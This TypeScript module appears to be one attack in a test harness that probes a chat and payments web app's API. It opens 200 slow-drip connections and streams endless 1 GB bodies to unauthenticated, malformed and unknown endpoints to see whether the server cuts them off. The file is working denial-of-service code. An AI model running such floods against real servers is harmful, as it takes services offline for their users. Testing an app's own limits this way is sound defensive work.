import { setTimeout as delay } from 'node:timers/promises';
import type { Attack, Target } from './attack.ts';
import { pump } from './channel.ts';

const drips = 200;
const endless = Buffer.alloc(256 * 1024, 'x');

export const slowBodies: Attack = {
  name: 'slow and endless bodies',
  does: '200 bodies at a byte in 5 s; bodies of 1 GB after a 401 and in forms without a boundary or with a foreign type',
  async run(target) {
    await Promise.all([
      ...Array.from({ length: drips }, () => drip(target)),
      ...endlessOnes(target).map((head) => pour(target, head)),
    ]);
  },
};

async function drip({ attackerHttp, time, note }: Target): Promise<void> {
  const socket = await attackerHttp.dial();
  socket.resume();
  const head = { 'content-type': 'application/json', 'content-length': 1_000_000 };
  socket.write(attackerHttp.head('POST', '/api/public-chat/messages', head));
  socket.once('close', () => !time.aborted && note('drip cut off'));
  while (!time.aborted && !socket.destroyed) {
    socket.write('{');
    await delay(5000, undefined, { signal: time }).catch(() => undefined);
  }
  if (!socket.destroyed) note('drip held to the end');
}

function endlessOnes({ attackerHttp, scene }: Target): string[] {
  const length = { 'content-length': 1024 ** 3 };
  const form = { 'content-type': 'multipart/form-data; boundary=snow' };
  const json = { 'content-type': 'application/json' };
  const nobody = { cookie: 'none=1' };
  const upload = `/api/chat/rooms/${scene.privateRoomId}/upload`;
  return [
    attackerHttp.head('POST', upload, { ...length, ...form, ...nobody }),
    attackerHttp.head('POST', '/api/public-chat/messages', { ...length, ...json, ...nobody }),
    attackerHttp.head('POST', '/api/nowhere', { ...length, ...json }),
    attackerHttp.head('POST', '/api/profile/image', { ...length, 'content-type': 'multipart/form-data' }),
    attackerHttp.head('POST', '/api/support/tickets', { ...length, 'content-type': 'text/plain' }),
    attackerHttp.head('POST', '/api/demo-payments/portal/x/cancel', {
      ...length,
      'content-type': 'application/x-www-form-urlencoded',
    }),
    attackerHttp.head('GET', '/api/users/me', length),
  ];
}

async function pour({ attackerHttp, time, note }: Target, head: string): Promise<void> {
  while (!time.aborted) {
    const socket = await attackerHttp.dial();
    socket.resume();
    socket.write(head);
    const sent = await pump(socket, endless, time);
    note('MB taken', Math.round(sent / 1024 ** 2));
    if (!time.aborted) note('cut off');
    await delay(50);
  }
}
